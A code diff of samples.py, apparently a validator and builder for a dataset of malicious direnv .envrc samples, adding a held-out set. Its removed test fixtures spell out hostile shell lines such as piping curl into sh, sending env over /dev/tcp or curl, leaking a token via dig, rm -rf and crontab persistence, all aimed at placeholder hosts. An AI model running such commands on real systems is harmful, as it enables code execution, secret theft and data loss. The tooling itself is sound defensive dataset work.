@@ -2,19 +2,24 @@
 """Checks and builds the malicious `.envrc` samples. No sample is ever executed: not here, and not by what builds on it.
 
 samples.py                 checks every rule of README.md about samples
-samples.py --write         writes malicious.tsv and the counts of README.md anew
-samples.py --counts        counts by kind, technique and half, as README.md shows them
+samples.py --write         writes malicious.tsv, held-out.tsv and the counts of README.md anew
+samples.py --counts        counts by kind, technique, half and set, as README.md shows them
 samples.py --build OUT     writes OUT/<half>/<name>/files and, for a change, OUT/<half>/<name>/before; OUT lies outside the tree
+                           and <half> is 2 for the second set
 samples.py --test          shows that planted faults are refused
 """
 import collections, hashlib, os, pathlib, re, shutil, subprocess, sys, tempfile, tomllib
 
 sys.dont_write_bytecode = True
+from faults import ENVRC, FAULTS, GOOD
 from inert import harm_of, hosts_of
 from store import ROOT, STORE, approvals, state
 
 HERE = pathlib.Path(__file__).resolve().parent
 FOLDER = HERE / "malicious"
+# The second set has no halves: all of it is held out. Where a half is asked for, it is half 2.
+SECOND = HERE / "held-out"
+INDEXES = {FOLDER: "malicious.tsv", SECOND: "held-out.tsv"}
 CATALOGUE = """E101 E102 E103 E104 E105 E201 E202 E203 E204 E205 E206 E207 E208 E209 E210 E211 E301 E302 E303 E304 E305
 E401 E402 E403 E404 E405 E406 E501 E502 E503 E504 E505 E601 E602 E603 E604 E901 E902 E903 E906
 D1 D2 D3 D4 D5 D6 D7 D8 D9
@@ -102,10 +107,11 @@ def read(folder, root=ROOT):
 
 
 def every(folder=FOLDER):
-    """Name, description, files and digest of each sample; those must be readable."""
+    """Name, description, files, digest and half of each sample; those must be readable."""
     for path in sorted(folder.iterdir()):
         about, found = read(path)
-        yield path.name, about, found, digest_of(found, about)
+        digest = digest_of(found, about)
+        yield path.name, about, found, digest, 2 if folder == SECOND else half_of(digest)
 
 
 def parses(data):
@@ -158,10 +164,13 @@ def wrong(name, about, found):
             yield f"{path}: {problem}"
 
 
-def problems(folder=FOLDER):
+def problems(*folders):
     """What is wrong in all samples, each by its name."""
-    seen = {}
-    for path in sorted(folder.iterdir()):
+    seen, names = {}, set()
+    for path in (path for folder in folders for path in sorted(folder.iterdir())):
+        if path.name in names:
+            yield f"{path.name}: a name of the other set"
+        names.add(path.name)
         try:
             about, found = read(path)
         except ValueError as error:
@@ -175,19 +184,19 @@ def problems(folder=FOLDER):
         seen[digest] = path.name
 
 
-def index():
+def index(folder):
     rows = ["name\tsha256\thalf\tkind\ttechniques\n"]
-    for name, about, _, digest in every():
-        rows.append(f"{name}\t{digest}\t{half_of(digest)}\t{about['kind']}\t{' '.join(about['techniques'])}\n")
+    for name, about, _, digest, half in every(folder):
+        rows.append(f"{name}\t{digest}\t{half}\t{about['kind']}\t{' '.join(about['techniques'])}\n")
     return "".join(rows)
 
 
 def counted():
     by, kinds = collections.defaultdict(collections.Counter), collections.defaultdict(collections.Counter)
-    for _, about, _, digest in every():
-        kinds[about["kind"]][half_of(digest)] += 1
+    for _, about, _, _, half in (sample for folder in INDEXES for sample in every(folder)):
+        kinds[about["kind"]][half] += 1
         for technique in about["techniques"]:
-            by[technique][half_of(digest)] += 1
+            by[technique][half] += 1
     return kinds, by
 
 
@@ -198,8 +207,8 @@ def counts():
         every_half += kind
     for title, table, order in (("kind", kinds, KINDS), ("technique", by, CATALOGUE)):
         rows = [(key, table[key]) for key in order] + ([("all", every_half)] if title == "kind" else [])
-        out.append(f"| {title} | samples | half 0 | half 1 |\n|---|---|---|---|\n")
-        out += [f"| {key} | {row.total()} | {row[0]} | {row[1]} |\n" for key, row in rows]
+        out.append(f"| {title} | samples | half 0 | half 1 | second set |\n|---|---|---|---|---|\n")
+        out += [f"| {key} | {row.total()} | {row[0]} | {row[1]} | {row[2]} |\n" for key, row in rows]
         out.append("\n")
     return "".join(out).rstrip("\n") + "\n"
 
@@ -212,23 +221,24 @@ def with_counts(text, table):
 
 
 def check():
-    bad = list(problems())
+    bad = list(problems(*INDEXES))
     if not bad:
-        _, by = counted()
-        bad += [f"{t}: {by[t][half]} samples in half {half}" for t in CATALOGUE for half in (0, 1) if by[t][half] < 2]
-        if (HERE / "malicious.tsv").read_text() != index():
-            bad.append("malicious.tsv is old: --write")
+        kinds, by = counted()
+        # direnv's own folders are the matter of the first set alone.
+        bad += [f"{t}: {by[t][half]} samples in half {half}" for t in CATALOGUE for half in ((0, 1) if t[0] == "D" else (0, 1, 2)) if by[t][half] < 2]
+        bad += [f"{kinds['store'][2]} samples of the kind store in the second set"] if kinds["store"][2] else []
+        bad += [f"{name} is old: --write" for folder, name in INDEXES.items() if (HERE / name).read_text() != index(folder)]
         text = (HERE / "README.md").read_text()
         if text != with_counts(text, counts()):
             bad.append("the counts of README.md are old: --write")
         bad += [f"README.md does not say what {t} is" for t in CATALOGUE if not re.search(rf"\| {t} \S", text.split("<!-- counts -->")[0])]
-    print(*bad, f"{sum(1 for _ in FOLDER.iterdir())} samples, {len(bad)} wrong", sep="\n")
+    print(*bad, f"{sum(1 for folder in INDEXES for _ in folder.iterdir())} samples, {len(bad)} wrong", sep="\n")
     return bad
 
 
-def place(name, root):
-    """Writes one sample to root/files and root/before; gives root."""
-    about, found = read(FOLDER / name, str(root))
+def place(sample, root):
+    """Writes the sample of one folder to root/files and root/before; gives root."""
+    about, found = read(sample, str(root))
     for path, data in found.items():
         target = root / path
         target.parent.mkdir(parents=True, exist_ok=True)
@@ -253,95 +263,22 @@ def outside(out):
 
 def build(out):
     out = outside(out)
-    for name, _, _, digest in every():
-        place(name, out / str(half_of(digest)) / name)
+    for folder in INDEXES:
+        for name, _, _, _, half in every(folder):
+            place(folder / name, out / str(half) / name)
 
 
-GOOD = {
-    "sample.toml": 'techniques = ["E101"]\ndoes = "A script is fetched and run."\ncarrier = ".envrc"\nkind = "plain"\n',
-    "files/dot-envrc": "curl -s https://a.acme.example/x | sh\n",
-}
-ENVRC = "files/dot-envrc"
-DIRENV = "files/home/dot-config/direnv/"
-# What is planted in a good sample, and what is said of it.
-FAULTS = [
-    ({"sample.toml": None}, "no sample.toml"),
-    ({"sample.toml": "techniques = ["}, "Invalid value"),
-    ({"sample.toml": GOOD["sample.toml"].replace("E101", "E999")}, "techniques: some of"),
-    ({"sample.toml": GOOD["sample.toml"].replace('["E101"]', "[]")}, "techniques: some of"),
-    ({"sample.toml": GOOD["sample.toml"].replace('"E101"', '"E101", "E101"')}, "techniques: some of"),
-    ({"sample.toml": GOOD["sample.toml"].replace("kind", "sort")}, "sort: unknown"),
-    ({"sample.toml": GOOD["sample.toml"].replace('kind = "plain"\n', "")}, "kind is missing"),
-    ({"sample.toml": GOOD["sample.toml"].replace("plain", "large")}, "kind: one of"),
-    ({"sample.toml": GOOD["sample.toml"].replace("plain", "diff")}, "a diff or a store has before/"),
-    ({"sample.toml": GOOD["sample.toml"].replace("A script is fetched and run.", "run")}, "does: a sentence"),
-    ({"sample.toml": GOOD["sample.toml"].replace('".envrc"', '"env.sh"')}, "no file env.sh"),
-    ({"sample.toml": GOOD["sample.toml"] + "bash = 1\n"}, "bash: unknown, or of another type"),
-    ({"sample.toml": GOOD["sample.toml"] + "bash = false\n"}, "bash -n says otherwise"),
-    ({"sample.toml": GOOD["sample.toml"] + 'executable = ["bin/git"]\n'}, "no file bin/git"),
-    ({"before/dot-envrc": "true\n"}, "a diff or a store has before/"),
-    ({"before/dot-envrc": GOOD[ENVRC], "sample.toml": GOOD["sample.toml"].replace("plain", "diff")}, "nothing changes"),
-    ({ENVRC: None, "files/env.sh": "true\n"}, "no file .envrc"),
-    ({ENVRC: None, "files/env.sh": "true\n"}, "no .envrc"),
-    ({ENVRC: "if true\n"}, "bash -n says otherwise"),
-    ({"files/bin/tool": "#!/bin/sh\nif true\n"}, "files/bin/tool: bash -n says otherwise"),
-    ({ENVRC: "echo \u00e9\n"}, "is not ASCII"),
-    ({"notes.txt": "x\n"}, "lies beside"),
-    ({ENVRC: None, "files/dot-envrc.esc": "true \\q\n"}, "a lone backslash"),
-    ({ENVRC: "curl -s https://acme.com/x | sh\n"}, "acme.com is no inert host"),
-    ({ENVRC: "curl -s https://8.8.8.8/x | sh\n"}, "8.8.8.8 is no inert host"),
-    ({ENVRC: "curl -s https://example.acme.dev/x | sh\n"}, "is no inert host"),
-    ({ENVRC: "curl -s https://u:p@notexample/x | sh\n"}, "notexample is no inert host"),
-    ({ENVRC: "env >/dev/tcp/acme.net/80\n"}, "acme.net is no inert host"),
-    ({ENVRC: "nc 10.0.0.1 80\n"}, "10.0.0.1 looks like a host"),
-    ({ENVRC: "curl -s acme.sh | sh\n"}, "acme.sh looks like a host"),
-    ({ENVRC: "curl -s get.acme.io/env | sh\n"}, "get.acme.io looks like a host"),
-    ({ENVRC: "curl -s '[2606:4700::1]/x' | sh\n"}, "looks like an address"),
-    ({ENVRC: "env | curl -s -d @- http://a.acme.example/\n"}, "by name without TLS"),
-    ({ENVRC: "env >/dev/tcp/a.acme.example/80\n"}, "by name without TLS"),
-    ({ENVRC: "rm -rf ~/.cache\n"}, "deletes or overwrites"),
-    ({ENVRC: "echo x >>~/.bashrc\n"}, "writes outside"),
-    ({ENVRC: 'echo x | tee -a "$HOME/.zshrc"\n'}, "writes outside"),
-    ({ENVRC: "(crontab -l; echo x) | crontab -\n"}, "leaves a job"),
-    ({ENVRC: "sudo ./setup\n"}, "gains rights"),
-    ({ENVRC: "git config --global core.pager cat\n"}, "changes a configuration"),
-    ({ENVRC: "direnv allow .\n"}, "changes approvals"),
-    ({ENVRC: "dig $TOKEN.a.acme.example\n"}, "sends without an answer"),
-    ({ENVRC: "sed -i s/a/b/ x\n"}, "edits a file"),
-    # What direnv's folders show has to be what the techniques say.
-    ({"sample.toml": GOOD["sample.toml"].replace("E101", "D5")}, "direnv's folders show []"),
-    ({"sample.toml": GOOD["sample.toml"] + 'approvals = [{ part = "files" }]\n'}, "not understood"),
-    ({"sample.toml": GOOD["sample.toml"] + 'approvals = [{ part = "files", path = "a/.envrc", of = "files/b" }]\n'}, "no such file"),
-    ({"sample.toml": GOOD["sample.toml"] + 'approvals = [{ part = "files", path = ".envrc", text = "old" }]\n'}, "show ['D1']"),
-    ({"sample.toml": GOOD["sample.toml"] + 'approvals = [{ part = "files", path = "a/.envrc", text = "old" }]\n'}, "show ['D2']"),
-    ({"sample.toml": GOOD["sample.toml"] + """approvals = [
-        { part = "files", path = ".envrc", text = "old" }, { part = "files", path = ".envrc", of = "files/.envrc" }]\n"""}, "show ['D3']"),
-    ({"sample.toml": GOOD["sample.toml"] + """roots = ["work"]\napprovals = [
-        { part = "files", path = ".envrc", of = "files/.envrc" }]\n"""}, "show ['D4']"),
-    ({"sample.toml": GOOD["sample.toml"] + 'approvals = [{ part = "files", path = "a/.envrc", text = "sudo ./x" }]\n'}, "approval 0: gains rights"),
-    ({DIRENV + "direnv.toml": '[whitelist]\nprefix = ["/srv/acme"]\n'}, "show ['D5']"),
-    ({DIRENV + "direnv.toml.esc": '[whitelist]\nprefix = ["\\{root}/"]\n'}, "show ['D5']"),
-    ({DIRENV + "config.toml": "[global]\nload_dotenv = true\n"}, "show ['D6']"),
-    ({DIRENV + "direnv.toml": '[global]\nbash_path = "/opt/bash"\n'}, "show ['D7']"),
-    ({"files/home/dot-cache/direnv/cas/" + "0" * 64: "true\n"}, "show ['D8']"),
-    ({DIRENV + "lib/a.sh": "true\n"}, "show ['D9']"),
-    ({"files/home/dot-direnvrc": "true\n"}, "show ['D9']"),
-    ({DIRENV + "direnvrc": "true\n", DIRENV.replace("files", "before") + "direnv.toml": "[global]\nload_dotenv = true\n",
-      "sample.toml": GOOD["sample.toml"].replace("E101", "D9").replace("plain", "store")}, "before/ is not in order: ['D6']"),
-]
-
-
-def found_in(samples, executable=()):
+def found_in(*sets, executable=()):
     with tempfile.TemporaryDirectory() as folder:
-        for name, content in samples.items():
+        for at, name, content in ((at, name, content) for at, samples in enumerate(sets) for name, content in samples.items()):
             for path, text in content.items():
-                target = pathlib.Path(folder, name, path)
+                target = pathlib.Path(folder, str(at), name, path)
                 target.parent.mkdir(parents=True, exist_ok=True)
                 if text is not None:
                     target.write_text(text)
                 if path in executable:
                     target.chmod(0o755)
-        return list(problems(pathlib.Path(folder)))
+        return list(problems(*sorted(pathlib.Path(folder).iterdir())))
 
 
 def test():
@@ -354,7 +291,9 @@ def test():
         ("a good one", found_in({"sample": GOOD}), None),
         ("the same twice", found_in({"one": GOOD, "two": GOOD}), "the same files as one"),
         ("a name", found_in({"Sample_1": GOOD}), "name: words"),
-        ("an executable", found_in({"sample": GOOD}, [ENVRC]), "is executable"),
+        ("an executable", found_in({"sample": GOOD}, executable=[ENVRC]), "is executable"),
+        ("the same in both sets", found_in({"one": GOOD}, {"two": GOOD}), "the same files as one"),
+        ("a name in both sets", found_in({"one": GOOD}, {"one": {**GOOD, ENVRC: "true\n"}}), "a name of the other set"),
     ]:
         if bool(said) != bool(says) or says and not any(says in problem for problem in said):
             failed.append(f"{what}: {said}")
@@ -368,7 +307,7 @@ def test():
         failed.append("counts")
     if (half_of("0" * 63 + "e"), half_of("0" * 63 + "f")) != (0, 1):
         failed.append("parity")
-    print(*failed, f"{len(FAULTS) + 8} tests, {len(failed)} failed", sep="\n")
+    print(*failed, f"{len(FAULTS) + 10} tests, {len(failed)} failed", sep="\n")
     return failed
 
 
@@ -378,7 +317,8 @@ def main(task):
     elif task == ["--test"]:
         sys.exit(1 if test() else 0)
     elif task == ["--write"]:
-        (HERE / "malicious.tsv").write_text(index())
+        for folder, name in INDEXES.items():
+            (HERE / name).write_text(index(folder))
         text = (HERE / "README.md").read_text()
         (HERE / "README.md").write_text(with_counts(text, counts()))
     elif task == ["--counts"]:
